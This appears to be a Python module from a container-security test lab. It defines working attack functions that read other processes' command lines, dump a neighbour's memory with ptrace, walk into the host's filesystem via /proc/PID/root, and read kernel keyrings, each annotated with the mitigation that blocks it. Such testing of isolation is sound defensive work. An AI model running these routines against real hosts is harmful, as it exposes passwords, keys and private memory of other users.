"""Attacks on other processes, and on what the kernel keeps for them."""

import ctypes
import os
from pathlib import Path

from scratchlab import linux
from scratchlab.attacks.attack import Evidence, attack
from scratchlab.linux import Ptrace


@attack(
    "pid_namespaces(7)", "proc_pid_cmdline(5)", stopped_by=("unshare_pid",),
    history="docker run --pid host: passwords on command lines of the host are there for anybody to read",
)  # fmt: skip
def host_processes(needle: str) -> Evidence:
    """Read the command lines of the host's processes: whoever can number a process can read that much of it.  proc(5)"""
    for file in Path("/proc").glob("[0-9]*/cmdline"):
        words = _text(file).replace("\0", " ")
        if needle in words:
            return Evidence(True, f"process {file.parent.name}: {words.strip()}")
    return Evidence(False, f"no process in /proc has {needle} on its command line")


def _text(path: Path) -> str:
    try:
        return path.read_text(errors="replace")
    except OSError:  # it ended meanwhile
        return ""


@attack(
    "ptrace(2)", stopped_by=("unshare_pid", "seccomp"),
    history="CVE-2019-2054: before Linux 4.8 a traced process could step over its own seccomp filter",
)  # fmt: skip
def ptrace_neighbour(pid: int, address: int, length: int) -> Evidence:
    """Stop a process of the same user and read its memory: between equals, the kernel asks for no capability.  ptrace(2)"""
    linux.ptrace(Ptrace.ATTACH, pid)
    os.waitpid(pid, 0)  # it stops in its own time
    word = ctypes.c_ulong()
    memory = b""
    while len(memory) < length:
        linux.ptrace(Ptrace.PEEKDATA, pid, address + len(memory), ctypes.byref(word))
        memory += bytes(word)
    linux.ptrace(Ptrace.DETACH, pid)
    return Evidence(True, f"memory of process {pid} at {address:#x}: {memory[:length].decode(errors='replace')}")


@attack(
    "ptrace(2)", "proc_pid_root(5)", stopped_by=("unshare_pid", "capabilities"),
    history="docker run --pid host --cap-add SYS_PTRACE, for a debugger: one `cd /proc/1/root` away from the host's files",
)  # fmt: skip
def foreign_root(pid: int, marker: str) -> Evidence:
    """Walk into another process's root directory by its link in /proc, which CAP_SYS_PTRACE opens.  proc_pid_root(5)"""
    with open(f"/proc/{pid}/root{marker}") as file:
        return Evidence(True, f"/proc/{pid}/root leads out, {os.path.basename(marker)} says {file.read().strip()}")


@attack(
    "proc_keys(5)", "keyrings(7)", stopped_by=("mask",),
    history="why the engines cover /proc/keys, and a dozen other files of /proc that no namespace makes their own",
)  # fmt: skip
def host_keys(needle: str) -> Evidence:
    """Read the names of the host's keys in /proc: a file that no namespace makes a container's own.  proc_keys(5)"""
    with open("/proc/keys") as keys:
        found = [line.split(maxsplit=8)[8].strip() for line in keys if needle in line]
    return Evidence(bool(found), f"/proc/keys lists {', '.join(found)}" if found else f"no {needle} in /proc/keys")


_SEARCH, _READ, _USER_KEYRING = 10, 11, -4  # KEYCTL_SEARCH, KEYCTL_READ, KEY_SPEC_USER_KEYRING


@attack(
    "keyrings(7)", "keyctl(2)", stopped_by=("seccomp",), also=("unshare_user",),
    history="CVE-2014-9529 and CVE-2016-0728, in keyrings; they belong to a user id, so root of any container has the host's",
)  # fmt: skip
def keyring(description: str) -> Evidence:
    """Read a key of the host's root out of the kernel: keyrings belong to user ids, not to containers.  keyrings(7)"""
    key = linux.keyctl(_SEARCH, _USER_KEYRING, "user", description, 0)
    room = ctypes.create_string_buffer(64)
    length = linux.keyctl(_READ, key, room, len(room))
    return Evidence(True, f"key {description}: {room.raw[:length].decode(errors='replace')}")
